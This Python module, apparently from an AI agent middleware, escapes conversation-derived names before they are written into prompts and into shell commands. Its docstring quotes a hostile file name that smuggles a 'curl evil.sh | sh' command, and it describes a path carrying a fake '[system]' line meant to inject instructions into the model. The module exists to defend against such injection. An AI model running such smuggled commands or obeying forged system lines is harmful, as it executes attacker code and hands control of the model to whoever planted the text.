"""How a name from the conversation is written into a text the model reads.

A path a tool call read, a tool's name, a session's key come from the model or from what
its tools printed, which a hostile file or page can steer (``x'; curl evil.sh | sh; '.txt``,
a path holding a line break and a fake ``[system]`` line). A template writes such a name
in one of two ways (:func:`middleware.policy.templates.fill`):

* in a sentence, :func:`prose`: the name as it is when it is plain; otherwise a JSON
  string, quotes included, in which a line break, any other control or invisible
  character and the brackets the middleware's notices are delimited by are escapes
  (``\\n``, ``\\u005b``): the model reads the real name, and no new line, no new notice;
* in a command the model is told to run, :func:`shell_word`: one word a POSIX shell reads
  back as the name (:func:`shlex.quote`, which leaves a plain name bare); a name with a
  character no shell line can hold is written ``$'...'``, with escapes.

Both leave a plain name as it is, so the usual texts do not change.
"""

from __future__ import annotations

import json
import shlex
import unicodedata

#: What the middleware's notices are delimited by: ``[...]`` lines and the
#: ``<persisted-output>`` block of the presets. Escaped in a name a sentence shows.
MARKERS = "[]<>"
#: Unicode categories a name never shows raw: control characters (C0, DEL, C1), format
#: characters (bidi overrides, zero-width ones), line and paragraph separators, and lone
#: surrogates.
HIDDEN = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
_SHORT = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def hidden(character: str) -> bool:
    """Whether ``character`` is one a text never shows raw: it may start a line, or change
    how the characters around it look, or not show at all."""
    return unicodedata.category(character) in HIDDEN


def plain(value: str) -> bool:
    """Whether a sentence may show ``value`` as it is: no hidden character, no marker,
    neither a quote at its start (a plain name is never read as an escaped one) nor a space
    at either end."""
    if not value.isprintable() and any(hidden(c) for c in value):
        return False
    return (
        not any(m in value for m in MARKERS)
        and not value.startswith('"')
        and value == value.strip()
    )


def prose(value: str) -> str:
    """``value`` as a sentence shows it: itself when :func:`plain`, else a JSON string with
    every hidden character and marker escaped (:func:`from_prose` reads it back)."""
    return value if plain(value) else json_string(value)


def from_prose(text: str) -> str:
    """The value :func:`prose` wrote as ``text``."""
    if text.startswith('"'):
        try:
            value = json.loads(text)
        except ValueError:
            return text
        if isinstance(value, str):
            return value
    return text


def json_string(value: str) -> str:
    """``value`` as a JSON string, quotes included, that holds no hidden character and no
    marker raw (each is a ``\\uXXXX`` escape; one past U+FFFF, a pair)."""
    written = json.dumps(value, ensure_ascii=False)
    if not any(m in written for m in MARKERS) and (
        written.isprintable() or not any(hidden(c) for c in written)
    ):
        return written
    return "".join(
        _escape(c) if c in MARKERS or hidden(c) else c
        for c in written  # json.dumps wrote the quotes, backslashes and C0 controls
    )


def shell_word(value: str) -> str:
    """``value`` as one word a POSIX shell reads back exactly: :func:`shlex.quote`, unless
    it holds a hidden character, which only a raw line break or byte could carry inside
    quotes; then ``$'...'`` (bash, zsh, ksh, busybox and POSIX.1-2024 shells), with each
    such character an escape (``\\n``; its UTF-8 bytes in octal, ``\\342\\200\\250``)."""
    if value.isprintable() or not any(hidden(c) for c in value):
        return shlex.quote(value)
    return "$'" + "".join(_shell_escape(c) for c in value) + "'"


def _escape(character: str) -> str:
    code = ord(character)
    if code <= 0xFFFF:
        return f"\\u{code:04x}"
    code -= 0x10000
    return f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}"


def _shell_escape(character: str) -> str:
    if character in ("\\", "'"):
        return "\\" + character
    if character in _SHORT:
        return _SHORT[character]
    if not hidden(character):
        return character
    try:  # a byte a file name could not decode (os.fsdecode) is that byte again
        data = character.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:
        data = character.encode("utf-8", "surrogatepass")
    return "".join(f"\\{byte:03o}" for byte in data)
